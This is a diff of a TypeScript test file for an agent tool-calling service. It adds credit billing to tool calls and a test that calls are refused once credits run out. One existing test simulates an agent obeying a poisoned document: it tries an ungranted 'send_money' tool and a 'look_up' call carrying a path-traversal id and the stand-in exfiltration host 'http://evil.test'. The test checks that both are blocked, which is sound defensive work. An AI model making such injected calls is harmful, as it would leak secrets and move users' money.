@@ -4,7 +4,7 @@ import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest'
 import { newId } from '../../lib/ids.ts'
 import { type Principal, startTestServer, type TestServer } from '../../testing/server.ts'
 import { loadAgentTools } from './index.ts'
-import { type OtherSide, otherSide, sendJson, toolWith } from './testing.ts'
+import { type OtherSide, otherSide, pay, sendJson, toolWith } from './testing.ts'
 
 let server: TestServer
 let owner: Principal & { accountId: string; projectId: string }
@@ -101,6 +101,30 @@ describe('a call', () => {
     expect(result.request).toMatchObject({ method: 'POST', url: `${other.url}/items/x%20y?v=2` })
     expect(other.seen[0]).toMatchObject({ method: 'POST', url: '/items/x%20y?v=2', body: '{"id":"x y"}' })
     expect(other.seen[0]!.headers).toMatchObject({ 'x-id': 'x y', 'content-type': 'application/json' })
+  })
+
+  it('is counted and paid when it was made; without credits, it isn’t made', async () => {
+    const { config, db } = server.running.context
+    const { credits: before, prices } = config
+    Object.assign(config, { credits: 1, prices: { ...prices, toolCall: 0.01 } })
+    const other = await side((_seen, response) => sendJson(response, {}))
+    try {
+      const { client, accountId } = await server.signUp()
+      const run = (given: Record<string, unknown>) =>
+        client.call(tools.test, { body: { tool: toolWith(`${other.url}/@@id@@`), arguments: given } })
+      expect(await run({ id: 7 })).toMatchObject({ ok: false, status: null })
+      expect(await run({ id: 'a' })).toMatchObject({ ok: true })
+      expect(await refusal(run({ id: 'b' }))).toMatchObject({
+        status: 402,
+        message: expect.stringContaining('too few credits'),
+      })
+      expect(other.seen).toHaveLength(1)
+      const { rows } = await sql`select kind, requests from usage_entries
+        where account_id = ${accountId}`.execute(db.kysely)
+      expect(rows).toEqual([{ kind: 'tool', requests: 1 }])
+    } finally {
+      Object.assign(config, { credits: before, prices })
+    }
   })
 
   it('does not go out when the arguments are wrong, and says what is', async () => {
@@ -289,7 +313,10 @@ describe('a credential', () => {
     const agentId = await makeAgent()
     await grant(agentId, { toolId: tool.id })
     await sql`delete from credentials where id = ${credentialId}`.execute(server.running.context.db.kysely)
-    const run = (await load(agentId)).run({ id: '1', name: 'look_up', arguments: { id: 'x' } }, { signal })
+    const run = (await load(agentId)).run(
+      { id: '1', name: 'look_up', arguments: { id: 'x' } },
+      { signal, pay },
+    )
     expect(await run).toMatchObject({
       ok: false,
       text: expect.stringContaining('no longer exists') as string,
@@ -315,15 +342,15 @@ describe('an agent', () => {
       },
     ])
     // What a model that obeys a poisoned document would try.
-    const obeyed = await own.run({ id: '1', name: 'send_money', arguments: { id: 'x' } }, { signal })
+    const obeyed = await own.run({ id: '1', name: 'send_money', arguments: { id: 'x' } }, { signal, pay })
     expect(obeyed).toMatchObject({ ok: false, text: 'This agent doesn’t have this tool.' })
     const leak = await own.run(
       { id: '2', name: 'look_up', arguments: { id: '../secret/all', url: 'http://evil.test' } },
-      { signal },
+      { signal, pay },
     )
     expect(leak.ok).toBe(false)
     expect(other.seen).toEqual([])
-    const good = await own.run({ id: '3', name: 'look_up', arguments: { id: 'x' } }, { signal })
+    const good = await own.run({ id: '3', name: 'look_up', arguments: { id: 'x' } }, { signal, pay })
     expect(good).toMatchObject({ ok: true, text: '{"url":"/granted/x"}', status: 200 })
   })
 
@@ -351,7 +378,7 @@ describe('an agent', () => {
     const agentId = await makeAgent()
     await grant(agentId, { toolId: tool.id, allowWrite: true })
     const call = { id: '1', name: 'look_up', arguments: { id: 'x' } }
-    await (await load(agentId)).run(call, { key: 'run_a:n2:x', signal })
+    await (await load(agentId)).run(call, { key: 'run_a:n2:x', signal, pay })
     expect(other.seen[0]!.headers['idempotency-key']).toBe('run_a:n2:x')
   })
 
@@ -372,7 +399,7 @@ describe('an agent', () => {
     await grant(agentId, { toolId: tool.id })
     const own = await load(agentId)
     await grant(agentId)
-    const late = await own.run({ id: '1', name: 'look_up', arguments: { id: 'x' } }, { signal })
+    const late = await own.run({ id: '1', name: 'look_up', arguments: { id: 'x' } }, { signal, pay })
     expect(late).toMatchObject({ ok: false })
     expect(other.seen).toEqual([])
   })
@@ -401,7 +428,7 @@ describe('an agent', () => {
     await grant(agentId, { toolId: tool.id })
     const own = await load(agentId)
     const call = { id: '1', name: 'look_up', arguments: { id: 'x' } }
-    const late = await own.run(call, { signal: AbortSignal.timeout(200) })
+    const late = await own.run(call, { signal: AbortSignal.timeout(200), pay })
     expect(late).toMatchObject({ ok: false, text: 'The tool failed. It took too long.' })
   })
 
@@ -412,7 +439,10 @@ describe('an agent', () => {
     await grant(agentId, { toolId: tool.id })
     const own = await load(agentId)
     const stop = new AbortController()
-    const running = own.run({ id: '1', name: 'look_up', arguments: { id: 'x' } }, { signal: stop.signal })
+    const running = own.run(
+      { id: '1', name: 'look_up', arguments: { id: 'x' } },
+      { signal: stop.signal, pay },
+    )
     await expect.poll(() => other.seen.length).toBe(1)
     stop.abort(new Error('the visitor left'))
     await expect(running).rejects.toThrow('the visitor left')
